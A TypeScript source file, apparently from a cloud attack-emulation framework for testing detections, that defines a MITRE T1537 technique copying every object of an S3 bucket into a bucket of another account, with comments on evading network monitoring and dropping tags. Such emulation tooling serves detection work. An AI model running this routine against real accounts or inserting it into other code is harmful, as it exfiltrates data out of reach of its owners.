import { z } from 'zod';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({
  bucket: z.string().min(3).max(63),
  foreignBucket: z.string().min(3).max(63),
});

/** Inside the storage service, from one account to another: no byte passes the attacker’s machine. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'exfiltration.cross-account-copy',
  title: 'Copy objects to a bucket of another account',
  purpose: 'Quick, cheap, and invisible to anything that watches a network.',
  mitre: ['T1537'],
  awsThreatTechniques: ['T1530.A001'],
  sources: [
    {
      title: 'Transfer Data to Cloud Account, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1537/',
    },
    {
      title: 'T1530.A001, Threat Technique Catalog for AWS',
      url: 'https://aws-samples.github.io/threat-technique-catalog-for-aws/Techniques/T1530.A001.html',
    },
    {
      title: 'CopyObject, Amazon S3 API Reference',
      url: 'https://docs.aws.amazon.com/AmazonS3/latest/API/API_CopyObject.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: {
    bucket: { objects: ['reports/april.csv', 'reports/may.csv'] },
    foreignBucket: true,
  },
  needs: ['s3:ListBucket', 's3:GetObject', 's3:PutObject'],
  leaves: [
    { service: 's3.amazonaws.com', name: 'ListObjects', outcome: 'succeeds' },
    { service: 's3.amazonaws.com', name: 'CopyObject', outcome: 'succeeds', times: 2 },
  ],
  repeatable: true,
  async detonate({ inputs: { bucket, foreignBucket }, aws, signal, say }) {
    const { Contents = [] } = await aws.s3().listObjectsV2({ Bucket: bucket });
    say(`Copy ${Contents.length} objects of ${bucket} to ${foreignBucket}`);
    for (const { Key = '' } of Contents) {
      signal.throwIfAborted();
      await aws.s3().copyObject({
        Bucket: foreignBucket,
        Key,
        // Leaving the tags behind takes no permission to read them.
        TaggingDirective: 'REPLACE',
        CopySource: `${bucket}/${Key.split('/').map(encodeURIComponent).join('/')}`,
      });
    }
  },
  undo: {
    kind: 'redeploy',
    because: 'a copy in another account is out of reach of the account it was taken from',
  },
};
